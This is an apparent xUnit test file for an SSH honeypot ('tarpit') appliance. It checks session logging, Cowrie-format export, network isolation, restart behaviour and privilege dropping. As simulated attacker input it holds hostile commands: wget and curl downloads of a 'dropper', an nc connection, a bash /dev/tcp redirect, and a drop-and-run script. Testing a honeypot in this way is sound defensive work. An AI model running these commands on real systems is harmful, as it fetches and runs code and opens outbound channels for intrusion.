using System.Diagnostics;
using System.Globalization;
using System.Net.Http.Json;
using System.Security.Cryptography;
using System.Text.Json.Nodes;
using Blackwall.Bridges.Tarpit;
using Microsoft.Extensions.DependencyInjection;
using Xunit;

namespace Blackwall.Tests.Tarpit;

/// <summary>The appliance with its tarpit in a process of its own, and the OpenSSH client as the attacker.</summary>
public sealed class SessionTests : IDisposable
{
    private readonly TarpitAppliance _tarpit = new("accept = \"always\"\ndelay_percent = 0");

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    private TarpitSupervisor Supervisor => _tarpit.Supervisor;

    public void Dispose() => _tarpit.Dispose();

    [Fact]
    public async Task What_an_intruder_did_is_told_by_the_api_and_in_cowries_format()
    {
        await _tarpit.ServesAsync();
        Assert.Equal("dropped\n", await AttackAsync("cat > /tmp/x.sh; sh /tmp/x.sh", "echo dropped\n"));
        JsonNode session = await FirstEndedAsync();
        Assert.Equal(("ssh", "127.0.0.1", "root"), ((string)session["protocol"]!, (string)session["source"]!, (string)session["user"]!));
        Assert.Equal((1, 1), ((int)session["logins"]!, (int)session["commands"]!));

        string id = (string)session["id"]!;
        JsonArray events = await _tarpit.EventsAsync(session);
        Assert.Equal("connect", (string)events[0]!["kind"]!);
        JsonNode login = events.Single(happened => (string)happened!["kind"]! is "login")!;
        Assert.Equal(("root", "toor", true), ((string)login["user"]!, (string)login["secret"]!, (bool)login["success"]!));
        Assert.Contains(events, happened => (string)happened!["kind"]! is "command" && (string)happened["text"]! is "cat > /tmp/x.sh; sh /tmp/x.sh");

        string hash = Convert.ToHexStringLower(SHA256.HashData("echo dropped\n"u8));
        Assert.Equal([hash], session["files"]!.AsArray().Select(file => (string)file!));
        Assert.Equal("echo dropped\n", await _tarpit.Api.GetStringAsync($"sessions/{id}/files/{hash}", Cancellation));
        string[] cast = (await _tarpit.Api.GetStringAsync($"sessions/{id}/terminal", Cancellation)).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(2, (int)JsonNode.Parse(cast[0])!["version"]!);
        Assert.Contains(cast.Skip(1), line => JsonNode.Parse(line) is JsonArray piece && (string)piece[1]! is "o" && (string)piece[2]! is "dropped\r\n");

        string[] cowrie = [.. (await File.ReadAllLinesAsync(Path.Combine(_tarpit.Factory.Folder, "sessions", "cowrie.json"), Cancellation)).Select(line => (string)JsonNode.Parse(line)!["eventid"]!)];
        Assert.Equal(["cowrie.session.connect", "cowrie.client.version", "cowrie.client.kex", "cowrie.login.success", "cowrie.command.input", "cowrie.session.file_upload", "cowrie.session.closed"], cowrie.Where(name => name is not "cowrie.client.var"));
        JsonNode evidence = (await _tarpit.Api.GetFromJsonAsync<JsonNode>("events/history?kind=evidence", Cancellation))!;
        Assert.Contains(evidence["items"]!.AsArray(), item => item!.ToJsonString().Contains(TarpitTranslator.LoginKind, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Nothing_that_an_intruder_types_sends_a_packet()
    {
        await _tarpit.ServesAsync();
        string[] downloads =
        [
            "wget http://192.0.2.80/x", "curl http://192.0.2.80/x", "nc 192.0.2.80 80", "ping -c1 192.0.2.80", "dig example.org", "tftp 192.0.2.80", "bash -c 'echo > /dev/tcp/192.0.2.80/80'",
            "ssh root@192.0.2.80", "apt-get update", "curl http://example.org", "ftp 192.0.2.80", "telnet 192.0.2.80 23",
        ];
        await AttackAsync(string.Join("; ", downloads), "");
        string folder = string.Create(CultureInfo.InvariantCulture, $"/proc/{Supervisor.ProcessId}/net/");
        string[] links = [.. (await File.ReadAllLinesAsync(folder + "dev", Cancellation)).Skip(2)];
        Assert.Equal("lo", Assert.Single(links).Split(':')[0].Trim());
        Assert.All(links[0].Split(':')[1].Split(' ', StringSplitOptions.RemoveEmptyEntries), counter => Assert.Equal("0", counter));
        Assert.Equal(0, await CounterAsync(folder + "snmp", "Tcp", "ActiveOpens"));
        Assert.Equal(0, await CounterAsync(folder + "snmp", "Udp", "OutDatagrams"));
        JsonNode session = await FirstEndedAsync();
        JsonArray events = await _tarpit.EventsAsync(session);
        Assert.True(events.Count(happened => (string)happened!["kind"]! is "download") >= 8);
    }

    [Fact]
    public async Task A_process_that_dies_is_started_again_and_is_the_same_machine()
    {
        await _tarpit.ServesAsync();
        string before = await AttackAsync("hostname; cat /proc/sys/kernel/osrelease", "");
        int process = Supervisor.ProcessId;
        using (Process killed = Process.GetProcessById(process))
        {
            killed.Kill();
        }

        await TarpitAppliance.UntilAsync(() => Supervisor.ProcessId is var next && next != process && next != 0 && Supervisor is { IsServing: true, Fault: null });
        Assert.Equal(before, await AttackAsync("hostname; cat /proc/sys/kernel/osrelease", ""));
        Assert.Equal(1, Supervisor.Read()["restarts"]);
    }

    [Fact]
    public async Task A_process_that_is_killed_takes_nothing_with_it_that_was_recorded()
    {
        await _tarpit.ServesAsync();
        Assert.Equal("", await AttackAsync("wget http://192.0.2.80/dropper", ""));
        int process = Supervisor.ProcessId;
        using (Process killed = Process.GetProcessById(process))
        {
            await TarpitAppliance.UntilAsync(() => _tarpit.Factory.Services.GetRequiredService<Blackwall.Sessions.SessionArchive>().List(null, DateTimeOffset.MaxValue, 5).Any(session => session.Commands == 1));
            killed.Kill();
        }

        JsonNode session = await FirstEndedAsync();
        JsonArray events = await _tarpit.EventsAsync(session);
        Assert.Contains(events, happened => (string)happened!["kind"]! is "command" && (string)happened["text"]! is "wget http://192.0.2.80/dropper");
        Assert.Equal("close", (string)events[^1]!["kind"]!);
    }

    [Fact]
    public async Task The_process_has_no_rights_and_ends_with_the_appliance()
    {
        await _tarpit.ServesAsync();
        string folder = string.Create(CultureInfo.InvariantCulture, $"/proc/{Supervisor.ProcessId}");
        Dictionary<string, string> status = (await File.ReadAllLinesAsync(folder + "/status", Cancellation)).Select(line => line.Split(':', 2)).ToDictionary(pair => pair[0], pair => pair[1].Trim(), StringComparer.Ordinal);
        Assert.Equal("64711\t64711\t64711\t64711", status["Uid"]);
        Assert.Equal("64711\t64711\t64711\t64711", status["Gid"]);
        Assert.All(new[] { "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb" }, set => Assert.Equal("0000000000000000", status[set]));
        Assert.Equal(("1", "2"), (status["NoNewPrivs"], status["Seccomp"]));
        await _tarpit.Factory.DisposeAsync();
        await TarpitAppliance.UntilAsync(() => !Directory.Exists(folder));
    }

    private static async Task<long> CounterAsync(string file, string protocol, string name)
    {
        string[][] lines = [.. (await File.ReadAllLinesAsync(file, Cancellation)).Where(line => line.StartsWith(protocol + ":", StringComparison.Ordinal)).Select(line => line.Split(' '))];
        return long.Parse(lines[1][Array.IndexOf(lines[0], name)], CultureInfo.InvariantCulture);
    }

    private Task<JsonNode> FirstEndedAsync() => _tarpit.SessionAsync(session => session["ended"] is not null);

    private Task<string> AttackAsync(string command, string input) => _tarpit.SshAsync(command, input);
}
